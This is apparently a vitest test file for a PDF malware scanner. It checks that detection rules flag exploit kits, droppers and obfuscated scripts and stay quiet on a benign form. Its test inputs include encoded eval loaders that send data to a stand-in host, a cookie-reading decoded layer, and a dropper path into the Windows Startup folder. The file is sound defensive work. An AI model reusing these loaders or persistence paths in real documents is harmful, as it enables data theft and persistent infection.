// The advanced-stage JavaScript rules on the facts analyzeScripts produces for PDFs built in code
// (real sandbox): each rule fires on the technique it names, and none fires on a benign form.
import { beforeAll, describe, expect, it } from "vitest";
import { createSandboxEmulator } from "../../engines/sandbox/sandbox-emulator";
import { createWorkerParser } from "../../engines/sandbox/worker-parser";
import {
  analyzePdfScripts,
  annotationKitPdf,
  benignFormPdf,
  hiddenDropperPdf,
  loopAndFormPdf,
  obfuscatedFailingPdf,
  xfaExploitPdf,
  type Analyzed,
} from "../javascript/testing/script-fixtures";
import { javascriptAcrobatExploitCve } from "./javascript-acrobat-exploit-cve";
import { javascriptDeobfuscatedHeapSpray } from "./javascript-deobfuscated-heap-spray";
import { javascriptDeobfuscatedShellcode } from "./javascript-deobfuscated-shellcode";
import { javascriptDynamicCode } from "./javascript-dynamic-code";
import { javascriptDropsRunnableFile } from "./javascript-drops-runnable-file";
import { javascriptFileWrite } from "./javascript-file-write";
import { javascriptEmulationLimit } from "./javascript-emulation-limit";
import { javascriptNetworkOrLaunch } from "./javascript-network-or-launch";
import { javascriptObfuscatedEmulationFailed } from "./javascript-obfuscated-emulation-failed";
import { webViewerScriptInjection } from "./web-viewer-script-injection";
import type { Rule } from "./rule";
import { toFinding } from "../analyze";
import { PdfBuilder, hexString } from "../../pdf/testing/pdf-builder";
import { defaultBudget } from "../../limits";

const RULES: Rule[] = [
  javascriptAcrobatExploitCve,
  javascriptDeobfuscatedShellcode,
  javascriptDeobfuscatedHeapSpray,
  javascriptDynamicCode,
  javascriptEmulationLimit,
  javascriptNetworkOrLaunch,
  javascriptObfuscatedEmulationFailed,
];
const engines = { emulate: createSandboxEmulator({ concurrency: 2 }), parseDeep: createWorkerParser() };
const fired = (a: Analyzed) =>
  RULES.filter((r) => r.check(a.facts, defaultBudget()))
    .map((r) => r.id)
    .sort();

let kit: Analyzed, loop: Analyzed, xfa: Analyzed, benign: Analyzed;
beforeAll(async () => {
  [kit, loop, xfa, benign] = await Promise.all([
    analyzePdfScripts(annotationKitPdf(), engines),
    analyzePdfScripts(loopAndFormPdf(), engines, { JS_CPU_MS: 400 }),
    analyzePdfScripts(xfaExploitPdf(), engines),
    analyzePdfScripts(benignFormPdf(), engines),
  ]);
});

describe("advanced JavaScript rules", () => {
  it("are declared for the advanced stage, with ATT&CK ids and mitigations", () => {
    for (const r of RULES) {
      expect(r.id).toMatch(/^javascript-[a-z0-9-]+$/);
      expect(r.stage).toBe("advanced");
      expect(r.attack.length).toBeGreaterThan(0);
      expect(r.mitigations.length).toBeGreaterThan(0);
    }
  });

  it("fire on the annotation kit: exploit with CVEs, shellcode, spray, layers, network", () => {
    expect(fired(kit)).toEqual([
      "javascript-acrobat-exploit-cve",
      "javascript-deobfuscated-heap-spray",
      "javascript-deobfuscated-shellcode",
      "javascript-dynamic-code",
      "javascript-network-or-launch",
    ]);
    const hit = javascriptAcrobatExploitCve.check(kit.facts, defaultBudget())!;
    expect(hit.cve).toEqual(["CVE-2007-5659", "CVE-2008-0655"]);
    expect(hit.evidence[0]).toMatchObject({ path: "/Root/OpenAction" });
    // evidence is defanged
    expect(JSON.stringify(javascriptNetworkOrLaunch.check(kit.facts, defaultBudget()))).not.toContain("http://");
  });

  it("report a script that exhausted its budget", () => {
    expect(fired(loop)).toEqual(["javascript-emulation-limit"]);
    expect(javascriptEmulationLimit.check(loop.facts, defaultBudget())!.evidence[0].excerpt).toMatch(/^timeout/);
  });

  it("name the XFA CVEs", () => {
    expect(javascriptAcrobatExploitCve.check(xfa.facts, defaultBudget())!.cve).toEqual([
      "CVE-2010-0188",
      "CVE-2013-0640",
    ]);
  });

  it("see a file write the text hides: the sandbox's call names the API and the path built at run time", async () => {
    const dropper = await analyzePdfScripts(hiddenDropperPdf(), engines);
    // the text shows neither the API nor the path
    expect(dropper.facts.scripts[0].signals.fileWrites).toEqual([]);
    expect(dropper.result.scripts[0].fileWrites).toEqual([
      expect.objectContaining({
        api: "this.saveAs",
        path: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/sync.js",
        runs: "logon",
      }),
    ]);
    const hit = javascriptDropsRunnableFile.check(dropper.facts, defaultBudget());
    expect(hit?.detail).toContain("runs at logon");
    const write = javascriptFileWrite.check(dropper.facts, defaultBudget());
    expect(write?.confidence).toBe("high");
    // the text showed neither: both findings are the advanced stage's (the rules run in both stages)
    expect([hit?.stage, write?.stage, toFinding(javascriptFileWrite, write!).stage]).toEqual([
      "advanced",
      "advanced",
      "advanced",
    ]);
    // a write the text shows is the fast stage's, also when the sandbox saw it made
    const b = new PdfBuilder();
    b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString('this.saveAs("/c/temp/copy.pdf");')} >>`);
    const visible = await analyzePdfScripts(b.build(), engines);
    expect(visible.result.scripts[0].fileWrites).toEqual([expect.objectContaining({ api: "this.saveAs" })]);
    expect(toFinding(javascriptFileWrite, javascriptFileWrite.check(visible.facts, defaultBudget())!).stage).toBe(
      "fast",
    );
    // a path the text does not spell out is said so, not taken for one built at run time
    const unresolved = new PdfBuilder();
    unresolved.addCatalog(
      `/OpenAction << /S /JavaScript /JS ${hexString("var p = this.info.keywords; this.saveAs(p);")} >>`,
    );
    const { facts } = await analyzePdfScripts(unresolved.build(), engines);
    expect(facts.scripts[0].signals.fileWrites).toEqual([
      expect.objectContaining({ api: "this.saveAs", path: undefined }),
    ]);
    expect(javascriptFileWrite.check({ ...facts, javascript: [] }, defaultBudget())?.detail).toContain(
      "this.saveAs to a path the script's text does not spell out",
    );
    for (const r of [javascriptDropsRunnableFile, javascriptFileWrite])
      expect(r.check(benign.facts, defaultBudget()), r.id).toBeNull();
  });

  it("see browser page APIs that only a decoded layer uses (web-viewer-script-injection in the advanced stage)", async () => {
    const code = "document.write('<img src=x>'); var c = document.cookie;";
    const encoded = Array.from(code, (ch) => ch.charCodeAt(0)).join(",");
    const b = new PdfBuilder();
    b.addCatalog(
      `/OpenAction << /S /JavaScript /JS ${hexString(`var s = String.fromCharCode(${encoded}); eval(s);`)} >>`,
    );
    const hidden = await analyzePdfScripts(b.build(), engines);
    // the text names no page API; the layer eval ran does
    expect(hidden.facts.scripts[0].signals.browserDom).toEqual([]);
    const hit = webViewerScriptInjection.check(hidden.facts, defaultBudget());
    expect(hit?.evidence.map((e) => e.excerpt)).toEqual([
      "code the script decodes and runs uses the browser page's document.write, document.cookie",
    ]);
    expect(hit?.stage).toBe("advanced");
    // without the advanced stage's facts there is nothing to see
    expect(webViewerScriptInjection.check({ ...hidden.facts, javascript: undefined }, defaultBudget())).toBeNull();
    expect(webViewerScriptInjection.check(benign.facts, defaultBudget())).toBeNull();
  });

  it("stay quiet on a benign form with a document-level script", () => {
    expect(fired(benign)).toEqual([]);
  });

  it("stay quiet when the advanced stage did not run (no facts.javascript)", () => {
    const { javascript: _, ...facts } = kit.facts;
    for (const r of RULES) expect(r.check(facts as typeof kit.facts, defaultBudget())).toBeNull();
  });
});

describe("javascript-dynamic-code", () => {
  it("does not count a literal string handed to eval", async () => {
    const { PdfBuilder, hexString } = await import("../../pdf/testing/pdf-builder");
    const b = new PdfBuilder();
    b.addCatalog(
      `/OpenAction << /S /JavaScript /JS ${hexString(`eval("this.getField('a').value"); var n = "b"; eval("this.getField('" + n + "').value");`)} >>`,
    );
    const literal = await analyzePdfScripts(b.build(), engines);
    expect(literal.result.scripts[0].emulation?.layers).toHaveLength(2);
    // the second layer is assembled at run time: that one counts
    expect(literal.result.scripts[0].generatedLayers).toEqual([`this.getField('b').value`]);
  });
});

describe("javascript-obfuscated-emulation-failed", () => {
  it("fires when an obfuscated script's decoded layer throws, naming the techniques", async () => {
    const failing = await analyzePdfScripts(obfuscatedFailingPdf(), engines);
    expect(failing.result.scripts[0].emulationStatus).toBe("error");
    expect(fired(failing)).toEqual(["javascript-dynamic-code", "javascript-obfuscated-emulation-failed"]);
    expect(javascriptObfuscatedEmulationFailed.check(failing.facts, defaultBudget())!.evidence[0].excerpt).toMatch(
      /^error \(Error: not a real viewer\) after \d+ layer\(s\); techniques: .*eval-alias/,
    );
  });

  it("stays quiet when the same failing check is written in the clear, or when an endless loop is plain", async () => {
    const clear = await analyzePdfScripts(obfuscatedFailingPdf(true), engines);
    expect(clear.result.scripts[0].emulationStatus).toBe("error");
    expect(javascriptObfuscatedEmulationFailed.check(clear.facts, defaultBudget())).toBeNull();
    expect(javascriptObfuscatedEmulationFailed.check(loop.facts, defaultBudget())).toBeNull();
  });
});

describe("javascript-network-or-launch on staged loaders (malicious-pdf --obfuscate 4)", () => {
  const openScript = (js: string) => {
    const b = new PdfBuilder();
    b.addCatalog(`/OpenAction << /S /JavaScript /JS ${hexString(js)} >>`);
    return b.build();
  };
  const excerpts = async (js: string) => {
    const a = await analyzePdfScripts(openScript(js), engines);
    return (javascriptNetworkOrLaunch.check(a.facts, defaultBudget())?.evidence ?? []).map((e) => e.excerpt);
  };
  const base64 = (s: string) => Buffer.from(s, "latin1").toString("base64");

  it("sees the call a base64 payload decoded by SOAP.streamDecode makes", async () => {
    const payload = base64('this.submitForm({cURL: "https://collect.example/staged"});');
    expect(
      await excerpts(`eval(util.stringFromStream(SOAP.streamDecode(util.streamFromString("${payload}"), "base64")));`),
    ).toEqual([expect.stringContaining("this.submitForm: hxxps[://]collect[.]example/staged")]);
  });

  it("sees a web request in code assembled from char codes, which the sandbox has no stub for", async () => {
    const codes = [...'fetch("https://collect.example/cc")'].map((c) => c.charCodeAt(0)).join(",");
    expect(await excerpts(`eval(String.fromCharCode(${codes}));`)).toEqual([
      expect.stringContaining("fetch (remote) (decoded code): hxxps[://]collect[.]example/cc"),
    ]);
  });

  it("sees an RSS feed subscription, and nothing for a staged script that only formats a field", async () => {
    expect(await excerpts('RSS.addFeed({cURL: "https://collect.example/feed"});')).toEqual([
      expect.stringContaining("RSS.addFeed"),
    ]);
    const harmless = base64('event.value = util.printx("999-99-9999", event.value);');
    expect(
      await excerpts(`eval(util.stringFromStream(SOAP.streamDecode(util.streamFromString("${harmless}"), "base64")));`),
    ).toEqual([]);
  });
});
